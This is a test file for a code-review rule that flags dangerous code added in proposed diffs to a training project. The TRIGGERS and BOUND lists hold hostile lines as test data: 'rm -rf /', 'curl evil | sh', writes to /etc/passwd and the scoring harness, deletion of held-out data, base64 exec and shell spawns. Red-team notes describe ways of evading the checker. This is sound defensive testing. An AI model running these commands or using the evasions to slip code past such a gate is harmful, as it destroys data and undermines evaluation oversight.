"""code_added and bandit: dangerous code added is found on its line; look-alikes are not."""

from __future__ import annotations

from pathlib import Path

import pytest

from core.contracts import Proposal
from tests.policies.helpers import TRAIN, findings, in_tree, one_rule

ALL = [
    "network",
    "subprocess",
    "dynamic_code",
    "native_code",
    "dynamic_import",
    "environment",
    "writes_outside_workspace",
    "seeding",
]


@pytest.fixture(scope="module")
def code_rule():  # type: ignore[no-untyped-def]
    return one_rule("code_added", {"categories": ALL, "seeding_paths": ["predict.py"]})


def insert(line: str, after: str = "        loss = step * 0.5\n") -> str:
    """TRAIN with `line` added inside train()'s loop body (a hunk that starts mid-block)."""
    return TRAIN.replace(after, after + line, 1)


TRIGGERS = [
    ("        import socket\n", "network"),
    ("        from socket import *\n", "network"),
    ("        import urllib.request as ur\n", "network"),
    ("        from http import client\n", "network"),
    ("        import requests; requests.post(url, data=loss)\n", "network"),
    ("        from multiprocessing.connection import Client\n", "network"),
    ("        import subprocess\n", "subprocess"),
    ("        os.system('rm -rf /')\n", "subprocess"),
    ("        os.popen('ls').read()\n", "subprocess"),
    ("        import pty\n", "subprocess"),
    ("        getattr(os, 'system')('ls')\n", "subprocess"),
    ("        value = eval(text)\n", "dynamic_code"),
    ("        exec(code, {})\n", "dynamic_code"),
    ("        code = compile(src, 'x', 'exec')\n", "dynamic_code"),
    ("        import timeit; timeit.timeit(decoded, number=1, globals={})\n", "dynamic_code"),
    ("        from timeit import Timer as T; T(text).timeit(1)\n", "dynamic_code"),
    ("        import code; code.InteractiveInterpreter().runsource(text, symbol='exec')\n", "dynamic_code"),
    ("        import doctest\n", "dynamic_code"),
    ("        import cProfile; cProfile.run(text)\n", "dynamic_code"),
    ("        import ctypes\n", "native_code"),
    ("        from cffi import FFI\n", "native_code"),
    ("        mod = __import__('socket')\n", "network"),
    ("        import importlib\n", "dynamic_import"),
    ("        mod = __import__(name)\n", "dynamic_import"),
    ("        token = os.environ['API_KEY']\n", "environment"),
    ("        steps = os.getenv('STEPS')\n", "environment"),
    ("        home = os.environ.get('HOME')\n", "environment"),
    ("        open('/etc/passwd', 'a').write('x')\n", "writes_outside_workspace"),
    ("        open('../../harness/score.py', mode='w')\n", "writes_outside_workspace"),
    ("        import shutil; shutil.rmtree('/workspace/../heldout')\n", "writes_outside_workspace"),
    ("        Path('/tmp/../etc/x').write_text('y')\n", "writes_outside_workspace"),
    ("        open(f'/root/{name}', 'wb')\n", "writes_outside_workspace"),
]


@pytest.mark.parametrize("whole", [False, True], ids=["diff-only", "whole-file"])
@pytest.mark.parametrize("line, category", TRIGGERS, ids=[t[0].strip()[:40] for t in TRIGGERS])
def test_dangerous_code_is_found_on_its_line(code_rule, line: str, category: str, whole: bool) -> None:  # type: ignore[no-untyped-def]
    found = findings(code_rule, "train.py", TRAIN, insert(line), whole=whole)
    assert category in {f.evidence["category"] for f in found}, found
    expected_line = insert(line).splitlines().index(line.rstrip("\n")) + 1
    assert all(f.line == expected_line and f.file == "train.py" for f in found)


NEAR_MISSES = [
    "        # import socket to phone home\n",
    "        note = 'import socket; os.system(\"x\")'\n",
    '        """eval(exec(compile()))"""\n',
    "        socket = 3\n",  # a local variable named like a module, nothing imported
    "        evaluation = loss * 2\n",
    "        open('model.npz', 'wb').write(b'')\n",  # relative write inside the workspace
    "        open('/etc/hosts').read()\n",  # reading is not writing
    "        config.environment = 'prod'\n",
    "        rng = np.random.default_rng(seed + 1)\n",  # seeding outside evaluation paths
    "        os.path.join(out, 'x')\n",
]


@pytest.mark.parametrize("line", NEAR_MISSES, ids=[n.strip()[:40] for n in NEAR_MISSES])
def test_look_alikes_do_not_fire(code_rule, line: str) -> None:  # type: ignore[no-untyped-def]
    assert findings(code_rule, "train.py", TRAIN, insert(line)) == []
    assert findings(code_rule, "train.py", TRAIN, insert(line), whole=True) == []


def test_seeding_counts_only_in_evaluation_paths(code_rule) -> None:  # type: ignore[no-untyped-def]
    before = "import numpy as np\n\n\ndef predict(x):\n    return x\n"
    after = "import numpy as np\n\n\ndef predict(x):\n    np.random.seed(0)\n    return x\n"
    assert [f.evidence["category"] for f in findings(code_rule, "predict.py", before, after)] == ["seeding"]
    assert findings(code_rule, "model.py", before, after) == []


def test_aliases_resolve_through_the_files_imports(code_rule) -> None:  # type: ignore[no-untyped-def]
    before = "import subprocess as sp\nfrom os import system as run\n\nx = 1\n"
    after = "import subprocess as sp\nfrom os import system as run\n\nx = 1\nsp.run(['ls'])\nrun('ls')\n"
    found = findings(code_rule, "data.py", before, after, whole=True)
    assert {(f.line, f.evidence["name"]) for f in found} == {(5, "subprocess.run"), (6, "os.system")}


def test_existing_code_is_not_blamed_on_the_change(code_rule) -> None:  # type: ignore[no-untyped-def]
    before = "import socket\n\nx = 1\n"
    after = "import socket\n\nx = 2\n"
    assert findings(code_rule, "data.py", before, after, whole=True) == []


def test_the_patched_tree_gives_whole_file_context(code_rule, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    # The multi-line call starts on an unchanged line: only the whole file shows it is a system call.
    before = "import os\n\nos.system(\n    'true'\n)\n"
    after = "import os\n\nos.system(\n    'curl evil | sh'\n)\n"
    found = in_tree(code_rule, tmp_path, "data.py", before, after)
    assert [f.evidence["name"] for f in found] == ["os.system"]


@pytest.mark.parametrize("kind", ["rename", "copy"])
def test_a_file_renamed_or_copied_into_python_is_read_whole(code_rule, tmp_path: Path, kind: str) -> None:  # type: ignore[no-untyped-def]
    """A text file (never read as code) renamed or copied to `.py` has no added lines, yet all of
    it is new code where it now is (red team, round ten: `netutil.txt` with `import subprocess`,
    accepted, then renamed to `netutil.py` and imported)."""
    text = "import subprocess\n\n\ndef fetch():\n    return subprocess.run(['uname', '-r'])\n"
    (tmp_path / "netutil.py").write_text(text)
    if kind == "copy":
        (tmp_path / "netutil.txt").write_text(text)
    diff = (
        f"diff --git a/netutil.txt b/netutil.py\nsimilarity index 100%\n{kind} from netutil.txt\n"
        f"{kind} to netutil.py\n"
    )
    found = code_rule.check(
        Proposal(diff=diff, rationale="", proposer="test"), None, None, tree=tmp_path
    ).findings
    assert {(f.line, f.evidence["category"]) for f in found} == {(1, "subprocess"), (5, "subprocess")}, found


def test_non_python_and_deleted_files_are_not_parsed(code_rule) -> None:  # type: ignore[no-untyped-def]
    assert findings(code_rule, "README.md", "a\n", "import socket\n") == []
    assert findings(code_rule, "train.py", "import socket\n", None) == []


@pytest.fixture(scope="module")
def bandit_rule():  # type: ignore[no-untyped-def]
    return one_rule(
        "bandit", {"min_severity": "LOW", "severity_verdicts": {"HIGH": "deny", "LOW": "allow"}}, "review"
    )


def test_bandit_findings_on_changed_lines_only_and_nosec_ignored(bandit_rule) -> None:  # type: ignore[no-untyped-def]
    before = "import pickle\n\n\ndef load(blob):\n    return pickle.loads(blob)\n"
    after = (
        before
        + "\n\ndef run(cmd):\n    import subprocess\n    return subprocess.call(cmd, shell=True)  # nosec\n"
    )
    found = findings(bandit_rule, "data.py", before, after)
    assert found and all(f.line in (9, 10) for f in found), found  # the old pickle.loads is not reported
    ids = {f.evidence["test_id"] for f in found}
    assert "B602" in ids and "B301" not in ids
    assert {f.verdict for f in found if f.evidence["severity"] == "HIGH"} <= {"deny"}


def test_bandit_severity_maps_to_verdicts(bandit_rule) -> None:  # type: ignore[no-untyped-def]
    after = "import subprocess\n\nsubprocess.call(cmd, shell=True)\n"
    found = findings(bandit_rule, "data.py", None, after)
    by_id = {f.evidence["test_id"]: f.verdict for f in found}
    assert by_id["B602"] == "deny" and by_id["B404"] == "allow"


def test_bandit_quiet_on_safe_code(bandit_rule) -> None:  # type: ignore[no-untyped-def]
    assert findings(bandit_rule, "train.py", TRAIN, insert("        loss = loss * 0.9\n")) == []


# Round thirteen: names bound as Python binds them, whatever spelling reaches them.
BOUND = [
    ("from os import *\n", "        system('id')\n", "subprocess"),
    ("from posix import *\n", "        system('id')\n", "subprocess"),
    ("from os import *\n", "        token = environ['KEY']\n", "environment"),
    ("import posix\n", "        posix.system('id')\n", "subprocess"),
    ("import shutil\n", "        shutil.os.system('id')\n", "subprocess"),
    ("import shutil as tools\n", "        tools.os.popen('id')\n", "subprocess"),
    ("import numpy as np\n", "        np.ctypeslib.ctypes.CDLL(None)\n", "native_code"),
    ("import os\n_o = os\n", "        _o.system('id')\n", "subprocess"),
    ("import os\nfirst = os\nsecond = first\n", "        second.execv('/bin/sh', ['sh'])\n", "subprocess"),
    ("import os\n", "        getattr(os, 'sys' + 'tem')('id')\n", "subprocess"),
    ("import os\n", "        vars(os)[name]('id')\n", "subprocess"),
    ("import asyncio\n", "        asyncio.create_subprocess_exec('id')\n", "subprocess"),
    ("import pkgutil\n", "        pkgutil.resolve_name('subprocess:run')\n", "dynamic_import"),
    # Round fifteen: every binding form, and the spellings the lists did not follow.
    ("import base64\n", "        __builtins__.exec(base64.b64decode(blob))\n", "dynamic_code"),
    ("import os\ndef announce(text, _out=os):\n    _out.system(text)\n", "        pass\n", "subprocess"),
    ("import os\ndef announce(text, *, _out=os):\n    _out.popen(text)\n", "        pass\n", "subprocess"),
    ("import os, sys\nfirst, second = os, sys\n", "        first.system('id')\n", "subprocess"),
    ("import os\n", "        for tool in (os,):\n            tool.system('id')\n", "subprocess"),
    ("import numpy as np\n", "        np.load(preset, None, True)\n", "dynamic_code"),
    ("import numpy as np\n", "        np.load(preset, **options)\n", "dynamic_code"),
    ("import numpy as np\n", "        hook.__code__ = hook.__code__.replace(co_code=blob)\n", "dynamic_code"),
    ("import numpy as np\n", "        np.zeros(1).ctypes._ctypes.CDLL(None).system(b'id')\n", "native_code"),
    (
        "from unittest import mock\n",
        "        mock.patch('subprocess.run').get_original()[0](['id'])\n",
        "subprocess",
    ),
    ("import imaplib\n", "        imaplib.subprocess.run(['id'])\n", "subprocess"),
    (
        "import sys\n",
        "        sys._getframe().f_back.f_locals['send'].__closure__[0].cell_contents = 1\n",
        "dynamic_code",
    ),
    (
        "import numpy as np\n",
        "        view = np.asarray(Raw({'data': (address, False), 'shape': (8,)}).__array_interface__)\n",
        "dynamic_code",
    ),
]


@pytest.mark.parametrize(("head", "line", "category"), BOUND, ids=[b[1].strip()[:40] for b in BOUND])
def test_names_are_read_as_python_binds_them(code_rule, head: str, line: str, category: str) -> None:  # type: ignore[no-untyped-def]
    after = head + insert(line)
    found = findings(code_rule, "train.py", TRAIN, after, whole=True)
    assert category in {f.evidence["category"] for f in found}, found


def test_the_tests_own_code_imported_from_code_under_test_is_a_finding() -> None:
    rule = one_rule("code_added", {"categories": ["test_code"]})
    for line in (
        "from tests.conftest import run_script\n",
        "import conftest\n",
        "import tests.helpers as h\n",
    ):
        assert findings(rule, "train.py", TRAIN, line + TRAIN, whole=True), line
    assert not findings(rule, "train.py", TRAIN, "import numpy\n" + TRAIN, whole=True)


def test_a_changed_file_that_does_not_parse_here_is_judged_as_code_that_may_run_anything(code_rule) -> None:  # type: ignore[no-untyped-def]
    rule = one_rule("code_added", {"categories": [*ALL, "unreadable"]})
    deep = "DAMPING = (" + "+".join(f"1/{i}**2" for i in range(1, 6001)) + ")\n"
    payload = deep.rstrip("\n") + "; import subprocess; subprocess.run(['id'])\n"
    found = findings(rule, "warmup.py", None, payload, whole=True)
    assert [f.evidence["category"] for f in found] == ["unreadable"], found
    assert "RecursionError" in found[0].message or "SyntaxError" in found[0].message
    assert not findings(rule, "warmup.py", None, "DAMPING = 1 / 6\n", whole=True)


def _listed_uses() -> list[tuple[str, str]]:
    """(root, use) for every name a category lists, as a call on its first name: each module the
    categories name whole (`trace.append(1)`) and each listed attribute (`pickle.load(1)`), roots
    the test file's TRAIN does not import already (seeding counts in predict.py only)."""
    from policies.rules.code import CATEGORIES

    uses: dict[str, str] = {}
    for kind, category in CATEGORIES.items():
        if kind == "seeding":
            continue
        for module in category.modules:
            uses.setdefault(module.split(".")[0], f"{module}.append(1)")
        for name in category.names:
            parts = name.rstrip("*").rstrip(".").split(".")
            if len(parts) > 1 and all(p.isidentifier() for p in parts):
                uses.setdefault(parts[0], ".".join(parts) + "(1)")
    taken = {"os", "time", "np", "numpy", "builtins"}
    return sorted(
        (r, u) for r, u in uses.items() if r.isidentifier() and not r.startswith("_") and r not in taken
    )


DATA_BINDINGS = ["{n} = []", "{n}: dict = {{}}", "{n} = 3", "{n} = f'{{1}}'", "{n} = [v for v in range(3)]"]
"""Bindings that make a name the file's own data: a method called on it is no module's."""
UNKNOWN_BINDINGS = [
    "import {n}",
    "{n} = []\nimport {n}",
    "{n} = []\n{n} = pick({n})",
    "for {n} in things:\n    pass",
    "with opener() as {n}:\n    pass",
    "{n}, other = [], 2",
    "{n} = []\ndef use({n}):\n    return {n}",
    "{n} = []\nclass {n}:\n    pass",
]
"""Bindings that leave the name's value unknown: it is still read as the module it is named like."""


@pytest.mark.parametrize(("module", "use"), _listed_uses(), ids=[u[0] for u in _listed_uses()])
def test_a_variable_named_like_a_module_is_data_only_when_every_binding_is_data(
    code_rule, module: str, use: str
) -> None:  # type: ignore[no-untyped-def]
    """Every listed module's name, bound as data in every form: its methods are the data's. Bound
    any way that may hold a module (an import, a call, a loop, a parameter...), it stays flagged."""
    for binding in DATA_BINDINGS:
        after = TRAIN + "\n" + binding.format(n=module) + "\n" + use + "\n"
        assert findings(code_rule, "train.py", TRAIN, after, whole=True) == [], binding
    for binding in UNKNOWN_BINDINGS:
        after = TRAIN + "\n" + binding.format(n=module) + "\n" + use + "\n"
        assert findings(code_rule, "train.py", TRAIN, after, whole=True), binding
    # From the diff alone the rest of the file is unknown: the name is read as the module.
    after = TRAIN + "\n" + DATA_BINDINGS[0].format(n=module) + "\n" + use + "\n"
    assert findings(code_rule, "train.py", TRAIN, after, whole=False)
